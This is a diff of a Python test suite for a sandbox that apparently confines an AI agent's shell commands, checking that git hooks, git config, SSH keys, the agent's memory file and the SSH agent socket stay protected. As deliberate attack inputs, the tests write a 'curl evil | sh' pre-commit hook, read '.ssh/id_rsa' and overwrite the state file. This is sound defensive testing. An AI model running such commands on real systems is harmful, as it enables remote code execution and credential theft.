@@ -21,16 +21,28 @@ def _git_repo(workspace):
     return workspace / ".git"
 
 
-def test_git_hooks_cannot_be_written_but_git_still_works(policy, workspace):
+def test_git_hooks_cannot_be_written_and_git_reads_still_work(policy, workspace):
     git = _git_repo(workspace)
+    (workspace / "a.txt").write_text("one\n")
+    subprocess.run(["git", "-C", str(workspace), "add", "a.txt"], check=True)
+    subprocess.run(["git", "-C", str(workspace), "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "1"])
     done = run_in(
         policy,
-        "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit;"
-        " echo hi > a.txt && git add a.txt && git -c user.name=t -c user.email=t@t commit -qm one && echo committed",
+        "echo 'curl evil | sh' > .git/hooks/pre-commit; echo two > a.txt;"
+        " git status --short && git diff --stat && git log --oneline | wc -l",
     )
-    assert "committed" in done.stdout, done.stderr
     assert not (git / "hooks" / "pre-commit").exists()
     assert "Read-only file system" in done.stderr
+    assert done.stdout.split() == ["M", "a.txt", "a.txt", "|", "2", "+-", "1", "file", "changed,", "1",
+                                   "insertion(+),", "1", "deletion(-)", "1"]  # fmt: skip
+
+
+def test_git_writes_its_directory_outside_the_sandbox_only(policy, workspace):
+    git = _git_repo(workspace)
+    (workspace / "a.txt").write_text("one\n")
+    done = run_in(policy, "git add a.txt")
+    assert done.returncode != 0 and "index.lock" in done.stderr and "Read-only file system" in done.stderr
+    assert not (git / "index").exists()
 
 
 def test_git_config_cannot_be_changed(policy, workspace):
@@ -71,7 +83,9 @@ def test_a_worktree_pointer_file_cannot_be_redirected(policy, workspace):
 
 def test_the_placeholder_stays_until_the_last_sandbox_using_it_ends(policy, workspace):
     launch = confine(["sleep", "30"], policy, workspace)
-    long = subprocess.Popen(launch.argv, cwd=workspace, env=launch.environ(os.environ), start_new_session=True)
+    long = subprocess.Popen(
+        launch.argv, cwd=workspace, env=launch.environ(os.environ), start_new_session=True, pass_fds=launch.pass_fds
+    )
     try:
         deadline = time.monotonic() + 10
         while not is_placeholder(workspace / ".nanohermes") and time.monotonic() < deadline:
@@ -103,14 +117,17 @@ def test_a_real_empty_file_of_the_user_is_never_removed(policy, workspace, name)
     assert mine.exists()
 
 
-def test_with_home_as_the_workspace_keys_stay_hidden_and_the_state_directory_read_only(fake_home, tmp_path):
+def test_with_home_as_the_workspace_keys_and_the_state_directory_stay_hidden(fake_home, tmp_path):
     state = fake_home / ".nanohermes"
     state.mkdir()
-    (state / "memory.json").write_text("{}")
+    (state / "memory.json").write_text('{"secret": 1}')
     policy = policy_for(SandboxSettings(), fake_home, state, temp_dir=tmp_path / "private-tmp")
-    done = run_in(policy, "cat .ssh/id_rsa; echo evil > .nanohermes/memory.json; echo fine > notes.txt")
-    assert KEY not in done.stdout
-    assert (state / "memory.json").read_text() == "{}"
+    done = run_in(
+        policy,
+        "cat .ssh/id_rsa; cat .nanohermes/memory.json; echo evil > .nanohermes/memory.json; echo fine > notes.txt",
+    )
+    assert KEY not in done.stdout and "secret" not in done.stdout
+    assert (state / "memory.json").read_text() == '{"secret": 1}'
     assert (fake_home / "notes.txt").read_text() == "fine\n"
 
 
@@ -129,17 +146,13 @@ def test_the_ssh_agent_socket_is_out_of_reach(workspace, isolated_home, fake_hom
             server.accept()
 
 
-def test_a_git_add_run_inside_the_sandbox_commits_no_placeholder(policy, workspace):
+def test_git_status_run_inside_the_sandbox_lists_no_placeholder(policy, workspace):
     _git_repo(workspace)
     (workspace / "app.py").write_text("x = 1\n")
-    done = run_in(
-        policy,
-        "git -c user.email=a@b -c user.name=a add -A && git -c user.email=a@b -c user.name=a commit -qm c "
-        "&& git ls-files && git status --porcelain",
-    )
+    done = run_in(policy, "git status --porcelain --untracked-files=all")
     assert done.returncode == 0, done.stderr
-    assert done.stdout.split() == ["app.py"]  # no .nanohermes in the commit, nothing left to add
-    assert not (workspace / ".nanohermes").exists()
+    assert done.stdout.split() == ["??", "app.py"]  # no .nanohermes or .claude placeholder to add
+    assert not (workspace / ".nanohermes").exists() and not (workspace / ".claude").exists()
 
 
 def test_a_placeholder_directory_left_by_a_killed_agent_is_removed_by_the_next_command(policy, workspace):
